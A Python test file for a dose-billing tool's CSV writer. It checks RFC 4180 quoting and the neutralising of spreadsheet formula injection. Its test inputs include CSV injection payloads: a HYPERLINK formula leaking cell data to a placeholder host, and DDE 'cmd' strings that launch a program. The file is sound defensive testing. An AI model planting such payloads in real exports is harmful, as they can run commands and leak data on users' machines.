"""The one CSV writer (doseunits/csvwrite.py) and the CSVs written through it (issue 17):
RFC 4180 quoting, a bare CR included, and formula cells neutralised as OWASP says."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path
from string import Template

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from doseunits.audit.auditor import Auditor, audit_rows, open_report
from doseunits.audit.job import audit_file
from doseunits.catalog.files import load_catalog
from doseunits.catalog.model import Catalog
from doseunits.csvwrite import FORMULA_STARTS, CsvWriter, neutralised
from doseunits.engine.billing import compute
from doseunits.engine.order import DoseOrder
from doseunits.history.store import FILE_NAME, HistoryStore
from doseunits.payers.model import PayerList

HEADER = "date_of_service,drug,administered,vials,billed_units,billed_modifier,billed_jw_units"
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


def written(rows: Sequence[Sequence[object]]) -> str:
    stream = io.StringIO(newline="")
    CsvWriter(stream).writerows(rows)
    return stream.getvalue()


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_gets_a_quote_in_front(cell: str) -> None:
    assert neutralised(cell) == "'" + cell
    assert read_back(written([["x", cell]])) == [["x", "'" + cell]]


@pytest.mark.parametrize("cell", ["-5", "-0.25", "1050", "", "ok", "J9022-JW x 15 units"])
def test_plain_cells_and_plain_negative_numbers_are_left_as_they_are(cell: str) -> None:
    assert neutralised(cell) == cell
    assert read_back(written([[cell, "x"]])) == [[cell, "x"]]


def test_numbers_and_none_are_written_as_csv_writes_them() -> None:
    assert written([[1, None, Decimal("17.5"), "=1"]]) == "1,,17.5,'=1\r\n"


def test_rfc_4180_crlf_quotes_and_a_bare_cr() -> None:
    assert written([["a\rb", 'say "hi"', "c,d", "e\nf"]]) == (
        '"a\rb","say ""hi""","c,d","e\nf"\r\n'
    )


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from('=+-@\t\r\n\x00",x1. \x1f')), max_size=8))
def test_any_row_reads_back_as_one_row_with_no_formula_cell(cells: list[str]) -> None:
    back = read_back(written([cells, ["end"]]))
    assert back == [[str(neutralised(cell)) for cell in cells], ["end"]]
    for original, cell in zip(cells, back[0], strict=True):
        assert cell in (original, "'" + original)
        assert cell[:1] not in FORMULA_STARTS or neutralised(cell) == cell


def test_formula_cells_from_a_claims_file_are_neutralised_in_the_report(
    catalog: Catalog, tmp_path: Path
) -> None:
    rows = [f"2026-11-28,atezolizumab,1050,1200x1,105,,{f!r}" for f in FORMULAS[:4]]
    rows += [f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",atezolizumab,1050,1200x1,105,,15']
    rows += ["2026-11-28,=cmd|' /C calc'!A0,1050,1200x1,105,,15"]
    source = tmp_path / "claims.csv"
    source.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    audit_file(source, report, Auditor(catalog, PayerList(())))
    with report.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    risky = [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    assert risky == []
    assert sum(cell.startswith("'") for cell in cells) >= len(rows)


def test_a_bare_cr_in_a_cell_stays_in_its_row(catalog: Catalog) -> None:
    text = HEADER + "\n" + '2026-11-28,atezolizumab,1050,1200x1,105,"a\rb",15\n'
    out = io.StringIO(newline="")
    reader, writer = open_report(io.StringIO(text, newline=""), out)
    counts = audit_rows(reader, writer, Auditor(catalog, PayerList(())))
    assert counts.rows == 1
    back = read_back(out.getvalue())
    assert len(back) == 2
    assert back[1][5] == "a\rb"


SITE_DRUG = """
[[drug]]
id = "=HYPERLINK(\\"http://example.invalid\\")"
name = "@SUM(1+1)*cmd|' /C calc'!A0"
hcpcs = "J9022"
descriptor = "Injection, atezolizumab, 10 mg"
billing_unit = "10 mg"
verified = true
source = "test: a site file"

[[drug.presentation]]
ndc = "50242-0917-01"
strength = "1200 mg"
volume_ml = "20"
container = "single-dose"
verified = true
source = "test: a site file"
"""


def test_a_site_drug_id_and_template_are_neutralised_in_the_history_export(
    tmp_path: Path,
) -> None:
    site = tmp_path / "site.toml"
    site.write_text(SITE_DRUG, encoding="utf-8")
    drug = load_catalog([site]).drugs[0]
    result = compute(DoseOrder(drug, dt.date(2026, 11, 28), dose_mg=Decimal(1050)))
    store = HistoryStore(tmp_path / FILE_NAME)
    store.record(result, Template("$drug x $administered"))
    target = tmp_path / "export.csv"
    assert store.export_csv(target) == 1
    store.close()
    with target.open(encoding="utf-8", newline="") as stream:
        row = next(csv.DictReader(stream))
    assert row["drug_id"] == "'" + drug.id
    assert row["note"].startswith("'@SUM(1+1)")
